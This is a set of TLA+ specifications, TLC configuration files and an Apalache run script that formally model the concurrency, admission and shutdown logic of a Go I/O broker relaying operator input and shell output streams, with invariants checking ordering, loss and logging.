    [] m = "del" -> IF last > ls THEN Replace(e, last, 127) ELSE e

VARIABLES phase, n, k, m
vars == <<phase, n, k, m>>

(* One initial state; choosing the case and then evaluating it are two     *)
(* steps, so that the cases (and their laws) are spread over TLC's workers: *)
(* a worker checks the invariants of the successors it generates.           *)
Init == phase = "start" /\ n = 0 /\ k = "zero" /\ m = "none"
Pick == /\ phase = "start"
        /\ phase' \in {"pick-enc", "pick-dec"}
        /\ \/ (phase' = "pick-enc" /\ n' \in EncLens /\ k' \in Kinds /\ m' = "none")
           \/ (phase' = "pick-dec" /\ n' \in DecBases /\ k' \in {"count", "zero"} /\ m' \in Mutations)
Eval == /\ phase \in {"pick-enc", "pick-dec"}
        /\ phase' = (IF phase = "pick-enc" THEN "enc" ELSE "dec")
        /\ UNCHANGED <<n, k, m>>
Next == Pick \/ Eval
Spec == Init /\ [][Next]_vars

In == Pattern(k, n)
E == Enc(In)
DecIn == Mutate(IF E = <<>> THEN <<96, 10>> ELSE E, m)

(* laws checked by TLC on every case *)
RoundTrip == phase = "enc" => (Dec(E).ok /\ Dec(E).bytes = In)
MaxLenOK == phase = "enc" => (Len(E) <= MaxEncodedLen(n) /\ n <= MaxDecodedLen(Len(E)))
LineShape == phase = "enc" => (n > 0 => (E[Len(E)] = 10 /\ \A i \in 1..Len(E) : E[i] = 10 \/ (E[i] >= 33 /\ E[i] <= 96)))
DecTotal == phase = "dec" => (Dec(DecIn).ok \in BOOLEAN)
TickSame == (phase = "dec" /\ m = "tick") => Dec(DecIn) = Dec(IF E = <<>> THEN <<96, 10>> ELSE E)
CRLFSame == (phase = "dec" /\ m = "crlf") => Dec(DecIn) = Dec(IF E = <<>> THEN <<96, 10>> ELSE E)

EmitCase ==
  \/ ~Emit \/ phase \notin {"enc", "dec"}
  \/ IF phase = "enc"
     THEN PrintT(<<"CASE", ToJson([phase |-> "enc", kind |-> k, n |-> n, input |-> In, enc |-> E,
                                   maxenc |-> MaxEncodedLen(n), maxdec |-> MaxDecodedLen(Len(E))])>>)
     ELSE PrintT(<<"CASE", ToJson([phase |-> "dec", kind |-> k, n |-> n, m |-> m, text |-> DecIn, res |-> Dec(DecIn)])>>)
=============================================================================
