--------------------------- MODULE OpInputTrace ---------------------------
(* Trace validation for OpInput: what a driver typed on the pty of the real *)
(* lib/opshell and the entries its input channel received, in the order     *)
(* observed.  A typed line and the channel entry it produced are one event  *)
(* (the driver waits for the entry); "intact" is the driver's byte          *)
(* comparison of the entry with what it typed / with the payload the        *)
(* generator returned.  See BrokerOutTrace for the acceptance method.       *)
EXTENDS OpInput

Trace == ndJsonDeserialize("trace.ndjson")
VARIABLE l
tvars == <<vars, l>>
TInit == Init /\ l = 1
Is(e) == l <= Len(Trace) /\ Trace[l].e = e
Consume == l' = l + 1

TTypeLine == Is("TypeLine") /\ TypeLine /\ Trace[l].i = typed + 1 /\ Trace[l].intact /\ Consume
TCtrlI    == Is("CtrlI") /\ CtrlI /\ Consume
TInsSend  == Is("InsSend") /\ InsSend(Trace[l].j) /\ Trace[l].intact /\ Consume
TOther    == (Is("CtrlJ") \/ Is("CtrlO")) /\ Other(Trace[l].e) /\ Consume
TQuiesce  == Is("Quiesce") /\ pend = {} /\ UNCHANGED vars /\ Consume
TReset    == /\ Is("Reset") /\ Consume
             /\ typed' = 0 /\ ins' = 0 /\ pend' = {} /\ before' = <<>> /\ ich' = <<>> /\ nother' = 0 /\ act' = [n |-> "Reset"]
TNext == TTypeLine \/ TCtrlI \/ TInsSend \/ TOther \/ TQuiesce \/ TReset
TSpec == TInit /\ [][TNext]_tvars
NotAllConsumed == l <= Len(Trace)
=============================================================================
