SPECIFICATION Spec
CONSTANTS
  MaxLines = 4
  MaxShells = 3
INVARIANTS GapFree LostOnlyOnOwnError OneInHand LogMatchesDelivery
CHECK_DEADLOCK FALSE
ACTION_CONSTRAINT Emit
