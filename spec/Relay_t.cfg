SPECIFICATION FairSpec
CONSTANTS
  NOut = 5
  NErr = 4
  PipeCap = 2
  WaitFirst = FALSE
  ExitCodes = {0, 3}
  Emit = FALSE
INVARIANTS PrefixAlways AllRelayedBeforeEOF ExitReported CleanRunIsNil
PROPERTIES Ends
CHECK_DEADLOCK FALSE
