SPECIFICATION Spec
CONSTANTS
  NChunks = 4
  QCap = 2
  OchCap = 1
  ReaderSelectsCtx = TRUE
  MayOmitNotice = FALSE
INVARIANTS TypeOK ShownIsPrefix ChannelInOrder ForwardedIsShownPlusChannel NoticeAfterAllData NoticeLast AtMostOneNotice NothingAfterDrop LossOnlyByCancellation LogMatchesForwarded NothingDroppedLogged
CHECK_DEADLOCK FALSE
ACTION_CONSTRAINT Emit
