SPECIFICATION Spec
CONSTANTS
  CheckBeforeUse = TRUE
  Emit = TRUE
INVARIANTS NeverCrashes CleanFailure FailsWhenItMust TermiosRestored RawOnlyWithTTY
PROPERTIES Terminates
CONSTRAINT EmitCase
CHECK_DEADLOCK FALSE
