--------------------------- MODULE BrokerOutEmit ---------------------------
(* BrokerOut plus an action constraint that prints every transition with    *)
(* the environment step it represents (tau for implementation steps), so    *)
(* the harness can derive environment schedules covering every edge.        *)
EXTENDS BrokerOut, Json

Label ==
  IF shown' # shown THEN [n |-> "Term"]
  ELSE IF ctxDone' # ctxDone THEN [n |-> "Cancel"]
  ELSE IF closed' # closed THEN [n |-> "Close"]
  ELSE IF rpc = "read" /\ rpc' # "read"
       THEN [n |-> "Read", d |-> (nread' > nread), x |-> rerr']
  ELSE [n |-> "tau"]

Emit == PrintT(<<"EDGE", ToJson([from |-> vars, act |-> Label, to |-> vars'])>>)
=============================================================================
