----------------------------- MODULE BrokerIn -----------------------------
(***************************************************************************)
(* Input path: operator lines -> Broker.proxyIn -> the attached shell's    *)
(* writer, over a series of shells attaching and detaching (iobroker.go    *)
(* proxyIn and the surrounding connect).                                   *)
(*                                                                         *)
(* proxyIn:  for { select { line from ich: write line+"\n"; flush; log     *)
(*                        | ctx.Done: return } }                           *)
(* One action per step: InTake, InWrite(ok), InFlush(ok), InLog, InCtx,    *)
(* InIchClosed, InRelease.  Lines are numbered 1..MaxLines in the order    *)
(* entered.  Writer kinds: "flusherr" (FlushError, can fail), "flusher"    *)
(* (http.Flusher, cannot report failure), "plain" (no flushing).           *)
(***************************************************************************)
EXTENDS Naturals, Sequences, FiniteSets, SequencesExt, TLC

CONSTANTS MaxLines, MaxShells
Kinds == {"flusherr", "flusher", "plain", "both"}   \* "both": Flush and FlushError, as net/http's own ResponseWriter: FlushError is the one to use
Shells == 1..MaxShells

VARIABLES
  ich,        \* entered lines not yet taken
  ichClosed,
  nentered,   \* lines entered so far
  shell,      \* attached input stream (0 = none)
  nshell,     \* shells attached so far
  kind,       \* writer kind of the attached shell
  ipc,        \* none | select | write | flush | log | ret
  cur,        \* line in hand (0 = none)
  ctxDone,
  \* history, per shell
  taken,      \* lines taken from ich
  written,    \* lines whose Write succeeded
  flushed,    \* lines whose flush succeeded (or that needed none)
  logd,       \* lines with a "Shell I/O" record
  endedBy     \* none | err | ctx | ichclosed

vars == <<ich, ichClosed, nentered, shell, nshell, kind, ipc, cur, ctxDone,
          taken, written, flushed, logd, endedBy>>
hist == <<taken, written, flushed, logd>>

Init ==
  /\ ich = <<>> /\ ichClosed = FALSE /\ nentered = 0
  /\ shell = 0 /\ nshell = 0 /\ kind = "plain" /\ ipc = "none" /\ cur = 0 /\ ctxDone = FALSE
  /\ taken = [s \in Shells |-> <<>>] /\ written = [s \in Shells |-> <<>>]
  /\ flushed = [s \in Shells |-> <<>>] /\ logd = [s \in Shells |-> <<>>]
  /\ endedBy = [s \in Shells |-> "none"]

(* environment *)
Enter ==
  /\ nentered < MaxLines /\ ~ichClosed
  /\ nentered' = nentered + 1
  /\ ich' = Append(ich, nentered + 1)
  /\ UNCHANGED <<ichClosed, shell, nshell, kind, ipc, cur, ctxDone, hist, endedBy>>

CloseIch ==
  /\ ~ichClosed /\ ichClosed' = TRUE
  /\ UNCHANGED <<ich, nentered, shell, nshell, kind, ipc, cur, ctxDone, hist, endedBy>>

Attach(k) ==
  /\ shell = 0 /\ nshell < MaxShells
  /\ shell' = nshell + 1 /\ nshell' = nshell + 1 /\ kind' = k
  /\ ipc' = "select" /\ ctxDone' = FALSE /\ cur' = 0
  /\ UNCHANGED <<ich, ichClosed, nentered, hist, endedBy>>

Cancel ==
  /\ shell # 0 /\ ~ctxDone /\ ctxDone' = TRUE
  /\ UNCHANGED <<ich, ichClosed, nentered, shell, nshell, kind, ipc, cur, hist, endedBy>>

(* proxyIn *)
InTake ==
  /\ ipc = "select" /\ ich # <<>>
  /\ cur' = Head(ich) /\ ich' = Tail(ich)
  /\ taken' = [taken EXCEPT ![shell] = Append(@, Head(ich))]
  /\ ipc' = "write"
  /\ UNCHANGED <<ichClosed, nentered, shell, nshell, kind, ctxDone, written, flushed, logd, endedBy>>

InIchClosed ==
  /\ ipc = "select" /\ ich = <<>> /\ ichClosed
  /\ ipc' = "ret" /\ endedBy' = [endedBy EXCEPT ![shell] = "ichclosed"]
  /\ UNCHANGED <<ich, ichClosed, nentered, shell, nshell, kind, cur, ctxDone, hist>>

InCtx ==
  /\ ipc = "select" /\ ctxDone
  /\ ipc' = "ret" /\ endedBy' = [endedBy EXCEPT ![shell] = "ctx"]
  /\ UNCHANGED <<ich, ichClosed, nentered, shell, nshell, kind, cur, ctxDone, hist>>

InWrite(ok) ==
  /\ ipc = "write"
  /\ IF ok
     THEN /\ written' = [written EXCEPT ![shell] = Append(@, cur)]
          /\ IF kind = "plain"
             THEN ipc' = "log" /\ flushed' = [flushed EXCEPT ![shell] = Append(@, cur)]
             ELSE ipc' = "flush" /\ UNCHANGED flushed
          /\ UNCHANGED <<endedBy, cur>>
     ELSE /\ ipc' = "ret" /\ cur' = 0
          /\ endedBy' = [endedBy EXCEPT ![shell] = "err"]
          /\ UNCHANGED <<written, flushed>>
  /\ UNCHANGED <<ich, ichClosed, nentered, shell, nshell, kind, ctxDone, taken, logd>>

InFlush(ok) ==
  /\ ipc = "flush"
  /\ (~ok) => kind \in {"flusherr", "both"}
  /\ IF ok
     THEN /\ flushed' = [flushed EXCEPT ![shell] = Append(@, cur)]
          /\ ipc' = "log" /\ UNCHANGED <<endedBy, cur>>
     ELSE /\ ipc' = "ret" /\ cur' = 0
          /\ endedBy' = [endedBy EXCEPT ![shell] = "err"]
          /\ UNCHANGED flushed
  /\ UNCHANGED <<ich, ichClosed, nentered, shell, nshell, kind, ctxDone, taken, written, logd>>

InLog ==
  /\ ipc = "log"
  /\ logd' = [logd EXCEPT ![shell] = Append(@, cur)]
  /\ cur' = 0 /\ ipc' = "select"
  /\ UNCHANGED <<ich, ichClosed, nentered, shell, nshell, kind, ctxDone, taken, written, flushed, endedBy>>

InRelease ==
  /\ ipc = "ret"
  /\ ipc' = "none" /\ shell' = 0
  /\ UNCHANGED <<ich, ichClosed, nentered, nshell, kind, cur, ctxDone, hist, endedBy>>

Proxy == InTake \/ InIchClosed \/ InCtx \/ (\E ok \in BOOLEAN : InWrite(ok) \/ InFlush(ok)) \/ InLog \/ InRelease
Env == Enter \/ CloseIch \/ Cancel \/ \E k \in Kinds : Attach(k)
Next == Proxy \/ Env
Spec == Init /\ [][Next]_vars
Fair == WF_vars(InTake) /\ WF_vars(InIchClosed) /\ WF_vars(InCtx) /\ WF_vars(InLog) /\ WF_vars(InRelease)
        /\ WF_vars(\E ok \in BOOLEAN : InWrite(ok)) /\ WF_vars(\E ok \in BOOLEAN : InFlush(ok))
FairSpec == Spec /\ Fair

-----------------------------------------------------------------------------
Concat(f, n) == LET RECURSIVE C(_) C(i) == IF i > n THEN <<>> ELSE f[i] \o C(i + 1) IN C(1)
Entered == [i \in 1..nentered |-> i]

(* C02: what the shells took, in attach order, followed by what is still   *)
(* queued, is exactly what was entered: no gap, no duplicate, no reorder.  *)
GapFree == Concat(taken, MaxShells) \o ich = Entered

(* C02: every taken line is written, except the one in hand and the one    *)
(* whose own write error ended its shell; a flush failure likewise only    *)
(* concerns the last line of a shell that ended with an error.             *)
LostOnlyOnOwnError ==
  \A s \in Shells :
    /\ IsPrefix(written[s], taken[s]) /\ Len(taken[s]) - Len(written[s]) <= 1
    /\ IsPrefix(flushed[s], written[s]) /\ Len(written[s]) - Len(flushed[s]) <= 1
    /\ (Len(taken[s]) > Len(flushed[s])) => ((s = shell /\ ipc \in {"write", "flush"}) \/ endedBy[s] = "err")

(* C02: a line is flushed before the next one is taken. *)
FlushBeforeNextTake ==
  [][InTake => flushed[shell] = taken[shell]]_vars
OneInHand == (cur # 0) <=> ipc \in {"write", "flush", "log"}

(* C11: a record per delivered line, after delivery, in order; never for   *)
(* a line whose delivery failed.                                           *)
LogMatchesDelivery ==
  \A s \in Shells : /\ IsPrefix(logd[s], flushed[s]) /\ Len(flushed[s]) - Len(logd[s]) <= 1
                    /\ (s # shell \/ ipc \in {"select", "ret", "none"}) => logd[s] = flushed[s]

(* C02 liveness: with a shell attached, queued lines are delivered without *)
(* any further input being entered.                                        *)
Prompt == (shell # 0 /\ ich # <<>>) ~> (ich = <<>> \/ shell = 0 \/ ipc = "ret")
(* C04: a cancelled input stream ends without further traffic. *)
EndsWhenCancelled == (shell # 0 /\ ctxDone) ~> (shell = 0 \/ ~ctxDone)
=============================================================================
