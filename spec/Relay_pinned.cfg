SPECIFICATION FairSpec
CONSTANTS
  NOut = 3
  NErr = 2
  PipeCap = 2
  WaitFirst = TRUE
  ExitCodes = {0, 3}
  Emit = FALSE
INVARIANTS PrefixAlways AllRelayedBeforeEOF ExitReported CleanRunIsNil
PROPERTIES Ends
CHECK_DEADLOCK FALSE
