---------------------------- MODULE BrokerCtl ----------------------------
(***************************************************************************)
(* Control part of internal/iobroker.Broker: admission and release of      *)
(* input/output streams ("attempts"), the tear-down window, shutdown.      *)
(*                                                                         *)
(* One action per critical section of Broker.connect:                      *)
(*   Admit(a)    iobroker.go first  b.mu section (noMore, key checks,      *)
(*               attach, ready notice + connected event)                   *)
(*   Release(a)  iobroker.go second b.mu section (clear key and own        *)
(*               cancel, cancel the peer, gone notice + disconnected       *)
(*               event when both directions are clear)                     *)
(* ProxyEnd(a,why) abstracts proxyIn/proxyOut returning (BrokerIn.tla and  *)
(* BrokerOut.tla refine it).  ArriveUni/ArriveIO are the HTTP handlers     *)
(* calling ConnectIn/ConnectOut/ConnectInOut; the two halves of one /io    *)
(* request are two independent attempts (iobroker.go ConnectInOut).        *)
(*                                                                         *)
(* PerReqKey = TRUE  : each /io request has its own sentinel key (design   *)
(*                     after the C06 repair)                               *)
(* PerReqKey = FALSE : all /io requests share one sentinel (pinned tree);  *)
(*                     SameRequest is violated (BrokerCtl_pinned.cfg)      *)
(***************************************************************************)
EXTENDS Naturals, Sequences, FiniteSets, TLC, Json

CONSTANTS Att,        \* attempt identifiers, 1..N
          Keys,       \* callback IDs usable on /i/{id} and /o/{id}; contains ""
          MaxReq,     \* bound on the number of HTTP requests
          PerReqKey,  \* see above
          MaxHangups, \* bound on the number of clients that go away while waiting
          EmitEdges   \* TRUE: print one EDGE line per transition (for replay)

None == 0
Dirs == {"in", "out"}
Other(d) == IF d = "in" THEN "out" ELSE "in"
BidirKey(r) == IF PerReqKey THEN "B" \o ToString(r) ELSE "B"
IsBidir(k) == k # "" /\ SubSeq(k, 1, 1) = "B"

VARIABLES
  key,        \* Broker.key
  cIn, cOut,  \* attempt holding Broker.cancelIn / cancelOut, None = nil
  noMore,     \* Broker.noMore
  doRet,      \* Broker.Do has returned
  pc,         \* per attempt: new -> lock -> (done | proxy -> ended -> done)
  adir, akey, areq,   \* per attempt: direction, key, request number
  cancelled,  \* attempts whose context is cancelled: by the peer's Release, or because
              \* the client went away while the attempt was still waiting for b.mu
  outcome,    \* per attempt: none | accepted | refused | silent
  nreq,       \* requests so far
  hung,       \* clients gone while waiting so far (bounds the model only)
  \* history (counters are bounded by the number of attempts)
  told,       \* attempts whose refusal was shown to the operator
  ready,      \* number of ready notices (= connected events)
  gone,       \* number of gone notices (= disconnected events)
  gens,       \* number of times the broker left the idle state
  act         \* label of the last action (not part of the VIEW)

hvars == <<told, ready, gone, gens>>
vars == <<key, cIn, cOut, noMore, doRet, pc, adir, akey, areq, cancelled,
          outcome, nreq, hung, told, ready, gone, gens, act>>

Holder(d) == IF d = "in" THEN cIn ELSE cOut
Attached(d) == {a \in Att : pc[a] \in {"proxy", "ended"} /\ adir[a] = d}
AllAttached == Attached("in") \cup Attached("out")

Init ==
  /\ key = "" /\ cIn = None /\ cOut = None /\ noMore = FALSE /\ doRet = FALSE
  /\ pc = [a \in Att |-> "new"]
  /\ adir = [a \in Att |-> "in"]
  /\ akey = [a \in Att |-> ""]
  /\ areq = [a \in Att |-> 0]
  /\ cancelled = {} /\ outcome = [a \in Att |-> "none"] /\ nreq = 0 /\ hung = 0
  /\ told = {} /\ ready = 0 /\ gone = 0 /\ gens = 0
  /\ act = [n |-> "Init"]

(* A handler calls ConnectIn or ConnectOut. *)
ArriveUni(a, d, k) ==
  /\ pc[a] = "new" /\ nreq < MaxReq
  /\ \A b \in Att : b < a => pc[b] # "new"       \* attempts are used in order
  /\ pc' = [pc EXCEPT ![a] = "lock"]
  /\ adir' = [adir EXCEPT ![a] = d]
  /\ akey' = [akey EXCEPT ![a] = k]
  /\ nreq' = nreq + 1
  /\ areq' = [areq EXCEPT ![a] = nreq + 1]
  /\ act' = [n |-> "ArriveUni", a |-> a, d |-> d, k |-> k]
  /\ UNCHANGED <<hung, key, cIn, cOut, noMore, doRet, cancelled, outcome, hvars>>

(* A handler calls ConnectInOut: two attempts, started independently. *)
ArriveIO(a, b) ==
  /\ pc[a] = "new" /\ pc[b] = "new" /\ b = a + 1 /\ nreq < MaxReq
  /\ \A c \in Att : c < a => pc[c] # "new"
  /\ pc' = [pc EXCEPT ![a] = "lock", ![b] = "lock"]
  /\ adir' = [adir EXCEPT ![a] = "in", ![b] = "out"]
  /\ akey' = [akey EXCEPT ![a] = BidirKey(nreq + 1), ![b] = BidirKey(nreq + 1)]
  /\ nreq' = nreq + 1
  /\ areq' = [areq EXCEPT ![a] = nreq + 1, ![b] = nreq + 1]
  /\ act' = [n |-> "ArriveIO", a |-> a, b |-> b]
  /\ UNCHANGED <<hung, key, cIn, cOut, noMore, doRet, cancelled, outcome, hvars>>

(* The client of a request goes away (its context is cancelled) while its   *)
(* attempts still wait for the lock.  Admission does not look at that: the  *)
(* stream is admitted or refused, and recorded, like any other, and its     *)
(* proxy then ends at once.                                                 *)
Hangup(a) ==
  /\ pc[a] = "lock" /\ a \notin cancelled /\ ~noMore /\ hung < MaxHangups
  /\ hung' = hung + 1
  /\ cancelled' = cancelled \cup {b \in Att : areq[b] = areq[a] /\ pc[b] \in {"lock", "proxy"}}   \* both halves of /io share the request
  /\ act' = [n |-> "Hangup", a |-> a]
  /\ UNCHANGED <<key, cIn, cOut, noMore, doRet, pc, adir, akey, areq, outcome, nreq, hvars>>

(* Every reason for which the code may refuse a; the code reports the first *)
(* in its own order (iobroker.go), the specification allows any of them.    *)
Reasons(a) ==
  LET d == adir[a]  k == akey[a]  us == Holder(d)  oth == Holder(Other(d)) IN
       (IF k = "" THEN {"missing"} ELSE {})
  \cup (IF key = "" /\ (us # None \/ oth # None) THEN {"disconnecting"} ELSE {})
  \cup (IF us # None THEN {"dup"} ELSE {})
  \cup (IF key # "" /\ k # key THEN {"badkey"} ELSE {})

Admit(a) ==
  /\ pc[a] = "lock"
  /\ IF noMore
     THEN /\ outcome' = [outcome EXCEPT ![a] = "silent"]
          /\ pc' = [pc EXCEPT ![a] = "done"]
          /\ act' = [n |-> "Admit", a |-> a, o |-> "silent", rs |-> {}]
          /\ UNCHANGED <<key, cIn, cOut, told, ready, gens>>
     ELSE IF Reasons(a) # {}
     THEN /\ outcome' = [outcome EXCEPT ![a] = "refused"]
          /\ pc' = [pc EXCEPT ![a] = "done"]
          /\ told' = told \cup {a}
          /\ act' = [n |-> "Admit", a |-> a, o |-> "refused", rs |-> Reasons(a)]
          /\ UNCHANGED <<key, cIn, cOut, ready, gens>>
     ELSE /\ outcome' = [outcome EXCEPT ![a] = "accepted"]
          /\ pc' = [pc EXCEPT ![a] = "proxy"]
          /\ key' = akey[a]
          /\ cIn' = IF adir[a] = "in" THEN a ELSE cIn
          /\ cOut' = IF adir[a] = "out" THEN a ELSE cOut
          /\ ready' = IF Holder(Other(adir[a])) # None THEN ready + 1 ELSE ready
          /\ gens' = IF cIn = None /\ cOut = None THEN gens + 1 ELSE gens
          /\ act' = [n |-> "Admit", a |-> a, o |-> "accepted", rs |-> {}]
          /\ UNCHANGED told
  /\ UNCHANGED <<noMore, doRet, adir, akey, areq, cancelled, nreq, hung, gone>>

(* The proxy of an attached attempt returns: by itself ("self": EOF, error, *)
(* its own request context) or because the peer's Release cancelled it.     *)
ProxyEnd(a, why) ==
  /\ pc[a] = "proxy"
  /\ why \in {"self", "cancel"}
  /\ (why = "cancel") <=> (a \in cancelled)
  /\ pc' = [pc EXCEPT ![a] = "ended"]
  /\ act' = [n |-> "ProxyEnd", a |-> a, why |-> why]
  /\ UNCHANGED <<hung, key, cIn, cOut, noMore, doRet, adir, akey, areq, cancelled,
                 outcome, nreq, hvars>>

Release(a) ==
  /\ pc[a] = "ended"
  /\ LET d == adir[a]  oth == Holder(Other(d)) IN
     /\ key' = ""
     /\ cIn' = IF d = "in" THEN None ELSE cIn
     /\ cOut' = IF d = "out" THEN None ELSE cOut
     /\ cancelled' = IF oth # None THEN cancelled \cup {oth} ELSE cancelled
     /\ gone' = IF oth = None THEN gone + 1 ELSE gone
  /\ pc' = [pc EXCEPT ![a] = "done"]
  /\ act' = [n |-> "Release", a |-> a]
  /\ UNCHANGED <<noMore, doRet, adir, akey, areq, outcome, nreq, hung, told, ready, gens>>

(* Broker.Do's context is cancelled: no more connections. *)
Shutdown ==
  /\ ~noMore /\ noMore' = TRUE
  /\ act' = [n |-> "Shutdown"]
  /\ UNCHANGED <<hung, key, cIn, cOut, doRet, pc, adir, akey, areq, cancelled, outcome,
                 nreq, hvars>>

(* Broker.Do returns once wg is zero. *)
DoReturns ==
  /\ noMore /\ ~doRet /\ AllAttached = {}
  /\ doRet' = TRUE
  /\ act' = [n |-> "DoReturns"]
  /\ UNCHANGED <<hung, key, cIn, cOut, noMore, pc, adir, akey, areq, cancelled, outcome,
                 nreq, hvars>>

Next ==
  \/ \E a \in Att, d \in Dirs, k \in Keys : ArriveUni(a, d, k)
  \/ \E a, b \in Att : ArriveIO(a, b)
  \/ \E a \in Att : Admit(a) \/ Release(a) \/ Hangup(a) \/ \E w \in {"self", "cancel"} : ProxyEnd(a, w)
  \/ Shutdown \/ DoReturns

Fair == /\ \A a \in Att : WF_vars(Admit(a)) /\ WF_vars(Release(a)) /\ WF_vars(ProxyEnd(a, "cancel"))
        /\ WF_vars(DoReturns)
Spec == Init /\ [][Next]_vars
FairSpec == Spec /\ Fair

-----------------------------------------------------------------------------
(* Properties *)

TypeOK ==
  /\ key \in Keys \cup {BidirKey(r) : r \in 1..MaxReq}
  /\ cIn \in Att \cup {None} /\ cOut \in Att \cup {None}
  /\ pc \in [Att -> {"new", "lock", "proxy", "ended", "done"}]
  /\ outcome \in [Att -> {"none", "accepted", "refused", "silent"}]

(* C01: at most one stream per direction, same key when both attached. *)
OneShell ==
  /\ Cardinality(Attached("in")) <= 1
  /\ Cardinality(Attached("out")) <= 1
  /\ \A a \in Attached("in"), b \in Attached("out") : akey[a] = akey[b]

(* The broker's book-keeping agrees with the attempts' program counters. *)
Consistent ==
  /\ \A d \in Dirs : Attached(d) = (IF Holder(d) = None THEN {} ELSE {Holder(d)})
  /\ key # "" => \A a \in AllAttached : akey[a] = key
  /\ (key = "" /\ AllAttached # {}) => \E a \in Att : pc[a] = "done" /\ outcome[a] = "accepted"
  /\ \A a \in Att : pc[a] \in {"proxy", "ended"} => outcome[a] = "accepted"
  /\ \A a \in told : outcome[a] = "refused" /\ pc[a] = "done"

(* C01: an attempt that would break OneShell, has no key, or arrives in the *)
(* tear-down window or after shutdown is refused at once; told unless shutdown. *)
RefusedWhenRequired ==
  [][\A a \in Att : Admit(a) =>
        /\ (noMore => outcome'[a] = "silent" /\ told' = told)
        /\ (~noMore /\ Reasons(a) # {} => outcome'[a] = "refused" /\ a \in told')
        /\ (outcome'[a] # "accepted" => pc'[a] = "done" /\ key' = key /\ cIn' = cIn /\ cOut' = cOut)]_vars

(* C11: only a broker that is shutting down lets a stream go unrecorded; a  *)
(* client that has already gone is no reason.                               *)
SilentOnlyAtShutdown ==
  [][\A a \in Att : Admit(a) => ((outcome'[a] = "silent") <=> noMore)]_vars

(* C04: from the idle state any well-formed attempt is accepted. *)
ReArm ==
  [][\A a \in Att : (Admit(a) /\ ~noMore /\ cIn = None /\ cOut = None /\ akey[a] # "")
        => outcome'[a] = "accepted"]_vars
IdleIsInitial == (cIn = None /\ cOut = None) => key = ""

(* C04: one gone notice per finished generation; ready exactly on full attach. *)
ExactlyOneGone == gone = gens - (IF cIn # None \/ cOut # None THEN 1 ELSE 0)
ReadyOnlyWhenFull ==
  [][ready' # ready => (ready' = ready + 1 /\ cIn' # None /\ cOut' # None /\ (cIn = None \/ cOut = None))]_vars
ReadyAtMostOncePerGen == ready <= gens
FullImpliesReady ==
  [][(cIn' # None /\ cOut' # None /\ (cIn = None \/ cOut = None)) => ready' = ready + 1]_vars

(* C04: shutdown waits for attached streams. *)
ShutdownWaits == doRet => AllAttached = {}
NoAdmissionAfterShutdown ==
  [][\A a \in Att : (noMore /\ pc[a] # "proxy") => pc'[a] # "proxy"]_vars

(* C06: both halves of a bidirectional shell belong to one request. *)
SameRequest ==
  \A a \in Attached("in"), b \in Attached("out") :
     (IsBidir(akey[a]) /\ IsBidir(akey[b])) => areq[a] = areq[b]
AtMostOneIO ==
  Cardinality({areq[a] : a \in {x \in AllAttached : IsBidir(akey[x])}}) <= 1
NoMixIOUni ==
  \A a \in Attached("in"), b \in Attached("out") : IsBidir(akey[a]) <=> IsBidir(akey[b])

(* C04 liveness (control level): a cancelled peer is released. *)
PeerCancelled == \A a \in Att : (pc[a] = "proxy" /\ a \in cancelled) ~> pc[a] = "done"
ShutdownEnds == (noMore /\ AllAttached = {}) ~> doRet

-----------------------------------------------------------------------------
View == <<key, cIn, cOut, noMore, doRet, pc, adir, akey, areq, cancelled,
          outcome, nreq, hung, told, ready, gone, gens>>

Proj(k, i, o, nm, dr, p, ad, ak, ar, ca, oc, t, r, g, h) ==
  [hung |-> h, key |-> k, cin |-> i, cout |-> o, nomore |-> nm, doret |-> dr, pc |-> p,
   adir |-> ad, akey |-> ak, areq |-> ar, cancelled |-> ca, outcome |-> oc,
   told |-> t, ready |-> r, gone |-> g]

Emit ==
  \/ ~EmitEdges
  \/ PrintT(<<"EDGE", ToJson(
       [from |-> Proj(key, cIn, cOut, noMore, doRet, pc, adir, akey, areq, cancelled, outcome, told, ready, gone, hung),
        act  |-> act',
        to   |-> Proj(key', cIn', cOut', noMore', doRet', pc', adir', akey', areq', cancelled', outcome', told', ready', gone', hung')])>>)
=============================================================================
