#!/bin/sh
# usage: OpshellLocksInd_apalache.sh <out-dir>
# prints the three outcomes: base and step for the repaired design (NoError twice), step for the
# design as found (Error: the lock cycle is reachable from the invariant)
D=${1:-/tmp/apalache-oplocks}
mkdir -p "$D"
cd "$(dirname "$0")" || exit 2
cp OpshellLocksInd.tla "$D/"
cat > "$D/Rep.tla" <<'EOT'
---- MODULE Rep ----
EXTENDS OpshellLocksInd
ConstInit == InlineCallback = FALSE
====
EOT
cat > "$D/Inl.tla" <<'EOT'
---- MODULE Inl ----
EXTENDS OpshellLocksInd
ConstInit == InlineCallback = TRUE
====
EOT
cd "$D" || exit 2
timeout 900 apalache-mc check --cinit=ConstInit --init=Init --inv=IndInv --length=0 --out-dir="$D/o1" Rep.tla > base.log 2>&1
timeout 900 apalache-mc check --cinit=ConstInit --init=IndInit --inv=IndInv --length=1 --out-dir="$D/o2" Rep.tla > step.log 2>&1
timeout 900 apalache-mc check --cinit=ConstInit --init=Init --inv=NoLockCycle --length=3 --out-dir="$D/o3" Inl.tla > inline.log 2>&1
grep -h "The outcome is" base.log step.log inline.log
