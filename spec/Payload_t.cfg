SPECIFICATION Spec
CONSTANTS
  MaxEntries = 3
  Emit = TRUE
INVARIANTS OnlyEligible Sorted IneligibleIsInert
CONSTRAINT EmitCase
CHECK_DEADLOCK FALSE
