---------------------------- MODULE BrokerOut ----------------------------
(***************************************************************************)
(* Output path of one attached output stream: Broker.proxyOut              *)
(* (iobroker.go) and the closing part of Broker.connect.                   *)
(*                                                                         *)
(* Two goroutines:                                                         *)
(*   reader    for nil == ctx.Err() && nil == err { Read; queue data;      *)
(*             queue error }          -- RLoop, RRead, RSend, RExit        *)
(*   forwarder select { item from q | ctx.Done } ; forward data to the     *)
(*             operator channel (select with ctx.Done); stop on error      *)
(*             or cancellation       -- FTake, FFwd, FDrop, FCtx, FClosed  *)
(* then, in the same goroutine as the forwarder, the close notice          *)
(* (FNotice) is put on the operator channel, and the direction is          *)
(* released (FRelease, refined by BrokerCtl!Release).                      *)
(*                                                                         *)
(* Data is abstracted to chunk numbers 1..NChunks in the order the         *)
(* transport delivered them; 0 on the operator channel is the close        *)
(* notice.                                                                 *)
(*                                                                         *)
(* ReaderSelectsCtx = TRUE : the reader's queue sends also wait for        *)
(*            ctx.Done (design after the C04 repair)                       *)
(* ReaderSelectsCtx = FALSE: pinned tree; NoLeak is violated               *)
(***************************************************************************)
EXTENDS Naturals, Sequences, FiniteSets, SequencesExt, TLC

CONSTANTS NChunks,           \* bound on chunks the transport delivers
          QCap,              \* capacity of proxyOut's internal queue (2 in the code)
